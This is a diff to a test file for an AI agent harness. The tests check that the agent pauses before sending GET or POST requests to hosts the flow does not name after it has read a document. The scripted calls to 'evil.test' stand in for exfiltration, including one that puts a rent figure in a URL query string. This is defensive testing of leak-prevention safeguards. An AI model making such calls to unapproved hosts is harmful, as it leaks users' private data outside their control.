@@ -187,16 +187,35 @@ describe('an agent that has read a document', () => {
     expect(called).toHaveLength(5);
   });
 
-  it('waits before a POST to a host that the flow does not name, and reads freely', async () => {
+  it('waits before a GET to a host that the flow does not name, because its address can carry contents', async () => {
     const api = (fields: JsonObject = {}) => tool('Api', 'APIRequest', fields);
-    const post = (url: string) => call('Api', { url_input: url, method: 'POST' });
-    says(call('Find'), call('Api', { url_input: 'https://evil.test/', method: 'GET' }), post('https://evil.test/x'), {
-      text: 'Done.',
-    });
+    const get = (url: string) => call('Api', { url_input: url, method: 'GET' });
+    says(call('Find'), get('https://evil.test/?rent=12500'), { text: 'Done.' });
     expect(await waitOfPart(agent, setting([READ(), api()]))).toMatchObject({
       request: { text: expect.stringContaining('evil.test') },
     });
-    expect(called.map(({ name }) => name)).toEqual(['Find', 'Api']);
+    expect(called.map(({ name }) => name)).toEqual(['Find']);
+    recorded = newRecord();
+    called = [];
+    says(call('Find'), get('https://good.test/?rent=12500'), { text: 'Done.' });
+    await runPart(agent, setting([READ(), api({ url_input: 'https://good.test/' })]));
+    recorded = newRecord();
+    await runPart(agent, setting([READ(), api()], { allowed_hosts: ['good.test'] }));
+    // What everybody can read carries nothing away.
+    recorded = newRecord();
+    says(call('Web'), get('https://other.test/'), { text: 'Done.' });
+    await runPart(agent, setting([tool('Web', 'WebSearch'), api()]));
+    expect(called.map(({ name }) => name)).toEqual(['Find', 'Api', 'Find', 'Api', 'Web', 'Api']);
+  });
+
+  it('waits before a POST to a host that the flow does not name', async () => {
+    const api = (fields: JsonObject = {}) => tool('Api', 'APIRequest', fields);
+    const post = (url: string) => call('Api', { url_input: url, method: 'POST' });
+    says(call('Find'), post('https://evil.test/x'), { text: 'Done.' });
+    expect(await waitOfPart(agent, setting([READ(), api()]))).toMatchObject({
+      request: { text: expect.stringContaining('evil.test') },
+    });
+    expect(called.map(({ name }) => name)).toEqual(['Find']);
     recorded = newRecord();
     called = [];
     says(call('Find'), post('https://good.test/x'), { text: 'Done.' });
